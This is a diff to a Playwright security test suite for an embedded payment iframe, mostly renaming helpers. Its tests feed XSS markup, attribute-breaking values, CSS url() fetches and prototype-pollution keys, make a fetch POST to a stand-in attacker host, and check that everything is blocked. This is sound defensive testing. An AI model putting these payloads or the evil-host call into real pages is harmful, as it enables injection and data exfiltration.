@@ -1,6 +1,6 @@
 import { protocolVersion } from '../../../src/frame/protocol-version.js';
 import { expect, type Page } from '@playwright/test';
-import { attack, number, say, stay } from './attack.js';
+import { attack, number, sendAsPage, stay } from './attack.js';
 import type { Loot } from './spy.js';
 import { script } from './world.js';
 
@@ -9,8 +9,8 @@ const attacker = 'A script in the page';
 
 const markup = `<img src=x onerror="window.ran=1"><script>window.ran=1</script><b id=bold>x</b>`;
 
-/** All requests of a page and its frames, by address. */
-function requests(page: Page): string[] {
+/** Records the address of each request of a page and its frames. */
+function watchRequests(page: Page): string[] {
   const urls: string[] = [];
   page.on('request', (request) => urls.push(request.url()));
   return urls;
@@ -28,7 +28,7 @@ export function pageSets(): void {
     'points `base-url` at a server of its own: plainly, with the service as a user name, another port, a trailing dot, in capitals, as a longer name',
     'the form is not offered, and the frame’s policy forbids the request too; the service’s own name in capitals is the service',
     0,
-    async ({ page, open, tried, evil, base, port, card, reaches, asked, sandbox }) => {
+    async ({ page, open, tried, evil, base, port, card, reaches, requests, sandbox }) => {
       const service = new URL(sandbox.url);
       const others = [
         `${evil}/v1`,
@@ -57,12 +57,12 @@ export function pageSets(): void {
         await set(url);
         await reaches('misconfigured');
         await expect(card.button).toBeHidden();
-        const said = await page.evaluate(() =>
+        const code = await page.evaluate(() =>
           (document.querySelector('pay-checkout') as never as { submit(): Promise<unknown> })
             .submit()
             .catch((error) => error.code),
         );
-        expect(said).toBe('configuration');
+        expect(code).toBe('configuration');
         // Whatever the form thinks of it: what its document sends there does not leave.
         const sent = await card.element.evaluate(
           (_element, { url, number }) =>
@@ -77,13 +77,13 @@ export function pageSets(): void {
         await set(base);
         await reaches('ready');
       }
-      // The attacker's server does hear whoever may talk to it, and the frame may talk to the service.
-      expect(asked.filter(({ method }) => method !== 'GET')).toEqual([]);
+      // The attacker's server does receive what may be sent to it, and the frame may talk to the service.
+      expect(requests.filter(({ method }) => method !== 'GET')).toEqual([]);
       await page.evaluate(
         (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'hello' }),
-        `${evil}/hear`,
+        `${evil}/log`,
       );
-      expect(asked.filter(({ method }) => method === 'POST').map(({ url }) => url)).toEqual(['/hear']);
+      expect(requests.filter(({ method }) => method === 'POST').map(({ url }) => url)).toEqual(['/log']);
       await set(base.replace('http://127.0.0.1', 'HTTP://LOCALHOST'));
       await reaches('ready');
       const status = await card.element.evaluate(
@@ -99,11 +99,11 @@ export function pageSets(): void {
     'gives `--pay-*` values that fetch, end a rule or refer elsewhere, and are 100,000 letters long; `color-scheme`, `lang`, `dir` and the root’s size likewise',
     'only plain colours, lengths and fonts are taken: nothing is fetched and nothing injected',
     1,
-    async ({ page, card, open, tried, evil, asked, reaches, port }) => {
+    async ({ page, card, open, tried, evil, requests, reaches, port }) => {
       await open('style="--pay-accent: rgb(1, 2, 3)"', { before: stay });
       await expect(card.button).toHaveCSS('background-color', 'rgb(1, 2, 3)');
       await card.fill();
-      const urls = requests(page);
+      const urls = watchRequests(page);
       const values = [
         `url(${evil}/look.png)`,
         `URL("${evil}/look.png")`,
@@ -139,7 +139,7 @@ export function pageSets(): void {
           { names, value },
         );
         await settled(page);
-        await say(page, {
+        await sendAsPage(page, {
           ...look,
           lang: value,
           dir: value,
@@ -149,26 +149,26 @@ export function pageSets(): void {
           ),
         });
         await expect(card.button).not.toHaveCSS('background-color', 'rgb(1, 2, 3)');
-        await say(page, { ...look, values: { '--pay-accent': 'rgb(1, 2, 3)' } });
+        await sendAsPage(page, { ...look, values: { '--pay-accent': 'rgb(1, 2, 3)' } });
         await expect(card.button).toHaveCSS('background-color', 'rgb(1, 2, 3)');
         const set = await card.element.evaluate((element) => element.style.cssText);
         expect(set).toBe('--pay-accent: rgb(1, 2, 3);');
         tried(value);
       }
       for (const rem of [0, -1, 1e9, NaN, Infinity]) {
-        await say(page, { ...look, rem, values: {} });
+        await sendAsPage(page, { ...look, rem, values: {} });
         tried(`rem ${rem}`);
       }
-      await say(page, { ...look, values: {} });
+      await sendAsPage(page, { ...look, values: {} });
       for (const dir of [markup, 'rtl" onfocus="ran=1', 'up']) {
         await page.evaluate(
           (value) => Object.assign(document.documentElement, { lang: value, dir: value }),
           dir,
         );
         await settled(page);
-        await say(page, { ...look, lang: dir, dir, values: { '--pay-accent': 'rgb(3, 2, 1)' } });
+        await sendAsPage(page, { ...look, lang: dir, dir, values: { '--pay-accent': 'rgb(3, 2, 1)' } });
         await expect(card.button).toHaveCSS('background-color', 'rgb(3, 2, 1)');
-        await say(page, { ...look, values: {} });
+        await sendAsPage(page, { ...look, values: {} });
         tried(dir);
       }
       for (const lang of [
@@ -179,12 +179,12 @@ export function pageSets(): void {
         '__proto__',
         'constructor',
       ]) {
-        await say(page, { ...look, lang, values: {} });
+        await sendAsPage(page, { ...look, lang, values: {} });
         tried(lang);
       }
-      await say(page, { ...look, values: { '--pay-accent': 'rgb(9, 9, 9)' } });
+      await sendAsPage(page, { ...look, values: { '--pay-accent': 'rgb(9, 9, 9)' } });
       await expect(card.button).toHaveCSS('background-color', 'rgb(9, 9, 9)');
-      expect(asked.filter(({ host }) => host.startsWith('evil.'))).toEqual([]);
+      expect(requests.filter(({ host }) => host.startsWith('evil.'))).toEqual([]);
       expect(urls.filter((url) => !/\/languages\/[\w-]+\.js$/.test(url))).toEqual([]);
       expect(await card.element.evaluate(() => 'ran' in window)).toBe(false);
       await card.button.click();
@@ -218,8 +218,8 @@ export function pageSets(): void {
       );
       await card.button.click();
       await reaches('paid');
-      const told = (await loot('told')).find(({ type }) => type === 'outcome');
-      const { payment } = (told?.detail as { outcome: { payment: Record<string, unknown> } }).outcome;
+      const outcomeEvent = (await loot('events')).find(({ type }) => type === 'outcome');
+      const { payment } = (outcomeEvent?.detail as { outcome: { payment: Record<string, unknown> } }).outcome;
       expect(payment['metadata']).toEqual(metadata);
       tried('metadata');
       expect(payment['splits']).toMatchObject(splits);
@@ -297,12 +297,12 @@ export function pageSets(): void {
     0,
     async ({ page, frame, bareFrame, evil, site, put, tried }) => {
       const greet = script((version) => {
-        const heard: string[] = [];
-        Object.assign(window, { heard });
+        const received: string[] = [];
+        Object.assign(window, { received });
         addEventListener('load', () => {
           for (const frame of document.querySelectorAll('iframe')) {
             const { port1, port2 } = new MessageChannel();
-            port1.onmessage = ({ data }) => heard.push(`${data.type} ${data.reason ?? ''}`);
+            port1.onmessage = ({ data }) => received.push(`${data.type} ${data.reason ?? ''}`);
             const settings = {
               publishableKey: 'pk_test_sandbox',
               clientSecret: 'pi_secret_x',
@@ -322,11 +322,11 @@ export function pageSets(): void {
       }, protocolVersion);
       const framed = (src: string, more = '') =>
         put(`${greet}<iframe src="${src}" data-base="http://127.0.0.1:1/v1" ${more}></iframe>`);
-      const heard = (url: string) =>
+      const receivedIn = (url: string) =>
         page
           .frames()
           .find((one) => one.url() === url)
-          ?.evaluate(() => (window as never as { heard: string[] }).heard);
+          ?.evaluate(() => (window as never as { received: string[] }).received);
       // The inputs of a form that nobody has taken over have no name.
       const forms = async () => {
         const found = await Promise.all(
@@ -341,7 +341,7 @@ export function pageSets(): void {
       // From the shop's own page, the same greeting is answered, and a form is shown.
       const right = framed(bareFrame);
       await page.goto(site + right);
-      await expect.poll(() => heard(site + right)).toContain('hello ');
+      await expect.poll(() => receivedIn(site + right)).toContain('hello ');
       for (const [name, where, src, more, answer] of [
         ['the header', evil, frame, '', []],
         ['another origin', evil, bareFrame, '', ['refused']],
@@ -350,7 +350,9 @@ export function pageSets(): void {
       ] as const) {
         const url = where + framed(src, more);
         await page.goto(url);
-        await expect.poll(async () => (await heard(url))?.map((line) => line.split(' ')[0])).toEqual(answer);
+        await expect
+          .poll(async () => (await receivedIn(url))?.map((line) => line.split(' ')[0]))
+          .toEqual(answer);
         expect(await forms()).toBe(0);
         tried(name);
       }
@@ -359,11 +361,11 @@ export function pageSets(): void {
       await page.goto(evil + put(`<iframe src="${site}${shop}"></iframe>`));
       await expect(page.frameLocator('iframe').locator('iframe')).toBeAttached();
       expect(await forms()).toBe(0);
-      expect(await heard(site + shop)).toEqual([]);
+      expect(await receivedIn(site + shop)).toEqual([]);
       tried('the shop in a frame of the attacker');
       const inner = framed(bareFrame);
       await page.goto(site + put(`<iframe src="${evil}${inner}"></iframe>`));
-      await expect.poll(async () => (await heard(evil + inner))?.join()).toMatch(/^refused/);
+      await expect.poll(async () => (await receivedIn(evil + inner))?.join()).toMatch(/^refused/);
       expect(await forms()).toBe(0);
       tried('the attacker in a frame of the shop');
       for (const url of [frame, bareFrame]) {
